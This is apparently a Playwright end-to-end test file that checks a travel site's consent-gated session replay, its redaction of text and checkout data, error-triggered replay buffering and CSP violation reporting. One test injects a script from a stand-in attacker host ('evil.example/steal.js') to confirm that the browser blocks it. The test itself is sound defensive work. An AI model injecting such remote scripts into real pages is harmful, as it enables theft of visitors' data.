import type { BrowserContext, Page } from 'playwright-core'
import { afterAll, describe, expect, it } from 'vitest'
import { openIngest, type Replayed } from '../../fixtures/ingest.ts'
import { choosePlace, dayAhead, EMAIL, fillContact, takeFlight, untilAllAnswered } from '../../fixtures/journey.ts'
import { openStage } from '../../fixtures/stage.ts'
import { readWords } from '../../fixtures/words.ts'

/** Which visits are recorded, and what a recording must never contain. */

const ingest = await openIngest()
afterAll(ingest.close)

const { at, openShopper } = openStage({ SENTRY_DSN: ingest.dsn })

type Recorded = { type: number; timestamp: number }

const eventsOf = ({ recording }: Replayed): Recorded[] => JSON.parse(recording)
const pagesOf = (replays: readonly Replayed[]): string[] => replays.flatMap(({ urls }) => (urls as string[]).map((url) => new URL(url).pathname))
const keptOf = (page: Page): Promise<string | null> => page.evaluate(() => sessionStorage.getItem('sessionReplay'))

/** Chance in this browser is always this number. */
const withChance = (context: BrowserContext, chance: number): Promise<unknown> =>
  context.addInitScript((fixed) => { Math.random = () => fixed }, chance)

/** How often the recorder was asked for. */
const countRecorders = (page: Page): { asked: () => number } => {
  let asked = 0
  page.on('request', (request) => (asked += /\/assets\/record-page-/.test(request.url()) ? 1 : 0))
  return { asked: () => asked }
}

/** What can be read on the page, in its labels and its links, but for single words: a class may be called so too. */
const phrasesOf = (page: Page): Promise<string[]> => page.evaluate(() => {
  const labels = [...document.querySelectorAll('*')].flatMap((element) => ['aria-label', 'title', 'alt', 'placeholder', 'content', 'href'].map((name) => element.getAttribute(name) ?? ''))
  const texts = [document.title, ...document.body.innerText.split('\n')].map((text) => text.trim())
  return [...new Set([...texts.filter((text) => /[\s\d]/.test(text)), ...labels.filter((label) => /[\s?]/.test(label))])].filter((phrase) => phrase.length >= 6)
})

describe('a sampled visit', () => {
  it('is recorded while measurement is accepted, without any text, and never in checkout', async () => {
    const t = await readWords('en')
    const { page, context, complaints } = await openShopper({ consent: null })
    await withChance(context, 0.05)
    const { asked } = countRecorders(page)
    await page.goto(at('/'))
    const banner = page.getByRole('region', { name: t('consent.title') })
    await expect.poll(() => ingest.named('transaction').length).toBe(1)
    expect([asked(), await keptOf(page)]).toEqual([0, null])
    const acceptedAt = Date.now()
    await banner.getByRole('button', { name: t('consent.acceptAll') }).click()
    await choosePlace(page, t('search-form.from'), 'Madrid')
    await expect.poll(() => ingest.replays().length).toBeGreaterThan(0)
    expect(asked()).toBe(1)
    const phrases = await phrasesOf(page)

    const query = `from=city-MAD&to=city-BCN&out=${dayAhead(40)}&adults=1`
    await page.goto(at(`/F?${query}`))
    await untilAllAnswered(page, t)
    phrases.push(...await phrasesOf(page))
    await expect.poll(() => pagesOf(ingest.replays())).toContain('/F')
    await takeFlight(page, t, (card) => card.getByRole('button', { name: t('flights.select'), exact: true }).click())
    const inCheckoutFrom = Date.now()
    await fillContact(page, t)
    phrases.push(...await phrasesOf(page))
    const inCheckoutUntil = Date.now()
    await page.goto(at('/legal/privacy'))
    await expect.poll(() => pagesOf(ingest.replays())).toContain('/legal/privacy')

    const replays = [...ingest.replays()]
    expect(replays.map(({ segment_id }) => segment_id)).toEqual(replays.map((_replay, index) => index))
    expect([new Set(replays.map(({ replay_id }) => replay_id)).size, new Set(replays.map(({ replay_type }) => String(replay_type)))]).toEqual([1, new Set(['session'])])
    expect(new Set(pagesOf(replays))).toEqual(new Set(['/', '/F', '/legal/privacy']))
    const events = replays.flatMap(eventsOf)
    expect(events.filter(({ type }) => type === 2)).toHaveLength(3)
    expect(events.filter(({ timestamp }) => timestamp < acceptedAt || (timestamp > inCheckoutFrom && timestamp < inCheckoutUntil))).toEqual([])
    const everything = JSON.stringify(replays)
    expect(phrases.length).toBeGreaterThan(100)
    expect(phrases.filter((phrase) => everything.includes(JSON.stringify(phrase).slice(1, -1)))).toEqual([])
    for (const secret of ['Madrid', 'Barcelona', 'city-', query, 'adults=', EMAIL, '600 000', '/checkout/']) expect(everything).not.toContain(secret)

    await page.getByRole('contentinfo').getByRole('button', { name: t('consent.settings') }).click()
    await page.getByRole('dialog').getByRole('button', { name: t('consent.rejectAll') }).click()
    await expect.poll(() => keptOf(page)).toBeNull()
    const withdrawnAt = Date.now()
    await page.goto(at('/'))
    await page.getByRole('contentinfo').getByRole('button', { name: t('consent.settings') }).click()
    const acceptedAgainAt = Date.now()
    await page.getByRole('dialog').getByRole('button', { name: t('consent.acceptAll') }).click()
    const [first] = replays
    const ofAnother = () => ingest.replays().filter(({ replay_id }) => replay_id !== first?.replay_id)
    await expect.poll(() => ofAnother().length).toBeGreaterThan(0)
    expect(ingest.replays().flatMap(eventsOf).filter(({ timestamp }) => timestamp > withdrawnAt && timestamp < acceptedAgainAt)).toEqual([])
    expect(ofAnother()[0]?.segment_id).toBe(0)
    expect(complaints).toEqual([])
  })
})

describe('a visit sampled for errors', () => {
  it('sends nothing without an error, whose report names the replay', async () => {
    const { page, context } = await openShopper({ consent: 'technical,measurement' })
    // The choice of an earlier page of the visit: chance is asked twice for it.
    await context.addInitScript((kept) => sessionStorage.getItem('sessionReplay') ?? sessionStorage.setItem('sessionReplay', kept), `ON_ERROR ${'e'.repeat(32)} 0 -`)
    const own = () => ingest.replays().filter(({ replay_id }) => replay_id === 'e'.repeat(32))
    await Promise.all([page.waitForResponse(/\/assets\/record-page-/), page.goto(at('/'))])
    await expect.poll(() => ingest.named('transaction').length).toBeGreaterThan(0)
    expect(own()).toEqual([])
    // The first faults may come before the recorder has begun.
    let faults = 0
    await expect.poll(async () => {
      await page.evaluate((nth) => void setTimeout(() => { throw new Error(`broken ${nth}`) }), faults += 1)
      return own().length
    }).toBeGreaterThan(0)
    const report = ingest.named('uncaught-error').find(({ contexts }) => contexts !== undefined)
    expect(report).toMatchObject({ contexts: { replay: { replay_id: 'e'.repeat(32) } } })
    expect(own()[0]).toMatchObject({ segment_id: 0, replay_type: 'buffer', error_ids: expect.arrayContaining([report?.event_id]) })
    expect(own().flatMap(eventsOf).some(({ type }) => type === 2)).toBe(true)
  })
})

describe('a visit that is not sampled', () => {
  it('never loads the recorder, and stores only that decision', async () => {
    const { page, context } = await openShopper({ consent: 'technical,measurement' })
    await withChance(context, 0.5)
    const { asked } = countRecorders(page)
    await page.goto(at('/'))
    await expect.poll(() => keptOf(page)).toBe('none')
    await Promise.all([page.waitForRequest((request) => new URL(request.url()).pathname === '/error-reports'), page.reload()])
    expect(asked()).toBe(0)
  })
})

describe('a violation of a page’s policy', () => {
  it('is reported by the browser with or without consent, as rule, host and page', async () => {
    const { page } = await openShopper()
    await page.goto(at('/legal/privacy?lang=en'))
    await page.evaluate(() => document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/steal.js?who=ana' })))
    await expect.poll(() => ingest.named('policy-violation').length).toBe(1)
    expect(ingest.named('policy-violation')[0]).toMatchObject({
      transaction: '/legal/:page', exception: { values: [{ type: 'PolicyViolation', value: expect.stringContaining('script-src-elem refused https://evil.example') }] },
    })
    expect(JSON.stringify(ingest.named('policy-violation'))).not.toMatch(/ana|steal|lang/)
  })
})
